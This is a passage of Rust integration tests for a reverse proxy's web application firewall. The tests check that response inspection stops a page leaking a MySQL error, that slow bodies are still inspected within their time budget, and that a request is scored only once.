    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(format!("{local}:0").parse().unwrap()).unwrap();
    let mut stream = socket.connect(addr).await.unwrap();
    stream.write_all(data).await.unwrap();
    let mut out = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut out)).await;
    assert!(read.is_ok(), "the connection was not closed within 20 s: {}", String::from_utf8_lossy(&out));
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn response_inspection_stops_a_leak_when_asked_to() {
    // An application that leaks its MySQL error (CRS 951230, a response-body rule).
    let page = "<html><body>You have an error in your SQL syntax; check the manual that corresponds to your \
                MySQL server version for the right syntax to use near ''' at line 1</body></html>";
    let response = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
        page.len()
    );
    let response: &'static str = Box::leak(response.into_boxed_str());
    let (leaky, _) = super::common::origin::raw_origin(response.as_bytes());
    // The same page from an application that writes its head at once and the page 400 ms
    // later: the budget is the rules' time, not the body's on the way.
    let split = response.find("\r\n\r\n").unwrap() + 4;
    let parts = vec![&response.as_bytes()[..split], &response.as_bytes()[split..]];
    let (slow, _) = super::common::origin::raw_origin_paced(parts, Duration::from_millis(400));
    let clean = Origin::start("clean");
    let admin = free_port();
    let fc = start(&format!(
        "[global]\nadmin = \"127.0.0.1:{admin}\"\naccess_log = \"off\"\n\
         [waf.plain]\nrules = {CRS3}\n[waf.responses]\nrules = {CRS3}\nresponse_inspection = true\n\
         [waf.timed]\nrules = {CRS3}\nresponse_inspection = true\ninspection_budget = \"100ms\"\n\
         [[listen]]\naddr = \"127.0.0.1:{{port}}\"\n\
         [[route]]\nhosts = [\"inspected.test\"]\nupstream = \"leaky\"\nwaf = \"responses\"\n\
         [[route]]\nhosts = [\"slow.test\"]\nupstream = \"slow\"\nwaf = \"timed\"\n\
         [[route]]\npath = \"/clean/\"\nupstream = \"clean\"\nwaf = \"responses\"\n\
         [[route]]\npath = \"/\"\nupstream = \"leaky\"\nwaf = \"plain\"\n\
         [upstream.leaky]\nservers = [\"{leaky}\"]\n[upstream.clean]\nservers = [\"{}\"]\n\
         [upstream.slow]\nservers = [\"{slow}\"]\n",
        clean.addr
    ));
    let ask = |host: &str| {
        format!(
            "GET /item HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"
        )
    };
    // Off by default: the page goes through as it is.
    let plain = pipelined_from("127.0.0.1", fc.addr(), ask("plain.test").as_bytes()).await;
    assert!(plain.starts_with("HTTP/1.1 200") && plain.contains("SQL syntax"), "{plain}");
    // On: the body is judged whole before any of it goes; refused, it never reaches the client.
    let inspected = pipelined_from("127.0.0.1", fc.addr(), ask("inspected.test").as_bytes()).await;
    assert!(!inspected.contains("SQL syntax"), "the leak reached the client: {inspected}");
    let metrics = get(&format!("http://127.0.0.1:{admin}/metrics")).await.body;
    assert!(metric(&metrics, "forecourt_waf_blocked_total{rule=\"951230\"}") >= 1.0, "{metrics}");
    // Only the rule whose chain completed: 951220 (MSSQL) starts on the same
    // `TX:sql_error_match` but its pattern does not match this page.
    assert!(!metrics.contains("rule=\"951220\""), "{metrics}");
    // A page that comes 400 ms after its head, through a policy whose budget is 100 ms, is
    // judged all the same (before, phase 4 found the budget spent and let it through).
    let slow = pipelined_from("127.0.0.1", fc.addr(), ask("slow.test").as_bytes()).await;
    assert!(!slow.contains("SQL syntax"), "the slow leak reached the client: {slow}");
    let metrics = get(&format!("http://127.0.0.1:{admin}/metrics")).await.body;
    assert!(metric(&metrics, "forecourt_waf_blocked_total{rule=\"951230\"}") >= 2.0, "{metrics}");
    assert_eq!(metric(&metrics, "forecourt_waf_over_budget_total"), 0.0, "{metrics}");
    // A request is judged once, response inspection or not: a numeric Host (920350, 3
    // points, under the threshold of 5) passes; judged twice it would score 6.
    let numeric = "GET /clean/page HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n";
    let answer = pipelined_from("127.0.0.1", fc.addr(), numeric.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 200") && answer.contains("origin=clean"), "{answer}");
}

#[test]
fn the_tests_budget_goes_into_every_waf_table_without_one() {
    let text = "[global]\nwaf = \"a\"\n[waf.a]\nrules = []\n[waf.b]\nrules = []\ninspection_budget = \"1ms\"\n[[listen]]\naddr = \"x\"\n[waf.c]\nrules = []\n";
    let out = generous(text);
    assert_eq!(out.matches("inspection_budget = \"10s\"").count(), 2, "{out}");
    assert!(out.contains("[waf.a]\nrules = []\ninspection_budget = \"10s\"\n[waf.b]"), "{out}");
    assert!(out.ends_with("[waf.c]\nrules = []\ninspection_budget = \"10s\"\n"), "{out}");
    assert!(out.contains("[waf.b]\nrules = []\ninspection_budget = \"1ms\"\n[[listen]]"), "{out}");
}
